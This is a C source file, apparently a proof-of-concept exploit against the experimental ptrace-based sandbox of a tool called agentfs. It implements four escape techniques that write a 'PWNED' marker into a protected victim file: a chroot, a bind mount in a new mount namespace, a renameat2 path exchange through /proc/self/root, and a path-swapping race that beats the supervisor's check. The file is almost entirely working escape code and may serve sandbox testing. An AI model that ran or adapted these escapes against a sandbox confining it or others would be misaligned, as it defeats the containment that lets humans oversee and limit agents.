/* More escapes from inside `agentfs run --experimental-sandbox` (see ptrace-escape.c): a chroot or a
   bind mount in a new mount namespace (the supervisor sees paths in its own root), a thread that
   swaps the path string after the supervisor checked it. usage: ptrace-escape2 BASE MODE */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <stdlib.h>
#include <sched.h>
#include <pthread.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <linux/fs.h>
static char buf[4096]; static volatile int stop;
static const char *good, *bad;
static void *flip(void *a) { (void)a; while (!stop) { strcpy(buf, bad); strcpy(buf, good); } return 0; }
int main(int argc, char **argv) {
  const char *base = argv[1], *mode = argv[2];
  char p[8192];
  if (!strcmp(mode, "chroot")) {
    char parent[4096]; strcpy(parent, base); *strrchr(parent, '/') = 0;
    printf("chroot %d\n", chroot(parent));
    snprintf(p, sizeof p, "%s/victim", strrchr(base, '/'));
    int w = open(p, O_WRONLY|O_APPEND); printf("open %s %d\n", p, w);
    if (w >= 0) write(w, "PWNED\n", 6);
  } else if (!strcmp(mode, "bind")) {
    char parent[4096]; strcpy(parent, base); *strrchr(parent, '/') = 0;
    printf("unshare %d\n", unshare(CLONE_NEWNS));
    mount(0, "/", 0, MS_REC|MS_PRIVATE, 0);
    mkdir("/tmp/agentfs-bind-probe", 0700);
    printf("mount %d\n", mount(parent, "/tmp/agentfs-bind-probe", 0, MS_BIND, 0));
    snprintf(p, sizeof p, "/tmp/agentfs-bind-probe%s/victim", strrchr(base, '/'));
    int w = open(p, O_WRONLY|O_APPEND); printf("open %d\n", w);
    if (w >= 0) write(w, "PWNED\n", 6);
    umount("/tmp/agentfs-bind-probe"); rmdir("/tmp/agentfs-bind-probe");
  } else if (!strcmp(mode, "exchange")) {
    snprintf(p, sizeof p, "/proc/self/root%s/victim", base);
    int fd = open("/tmp/agentfs-xchg", O_WRONLY|O_CREAT|O_TRUNC, 0644); write(fd, "OUT\n", 4); close(fd);
    printf("xchg %ld\n", syscall(SYS_renameat2, AT_FDCWD, "/tmp/agentfs-xchg", AT_FDCWD, p, RENAME_EXCHANGE));
    unlink("/tmp/agentfs-xchg");
  } else if (!strcmp(mode, "race")) {
    good = "/tmp/agentfs-race-ok"; snprintf(p, sizeof p, "%s/victim", base); bad = p;
    strcpy(buf, good);
    pthread_t th; pthread_create(&th, 0, flip, 0);
    int wins = 0;
    for (int i = 0; i < 200000 && !wins; i++) {
      int w = open(buf, O_WRONLY|O_APPEND|O_CREAT, 0644);
      if (w >= 0) { char q[64], t[4096]; snprintf(q, sizeof q, "/proc/self/fd/%d", w); ssize_t n = readlink(q, t, sizeof t - 1); t[n > 0 ? n : 0] = 0;
        if (!strcmp(t, bad)) { write(w, "PWNED\n", 6); wins = i + 1; } close(w); }
    }
    stop = 1; pthread_join(th, 0); unlink(good);
    printf("race won at %d\n", wins);
  }
  return 0;
}
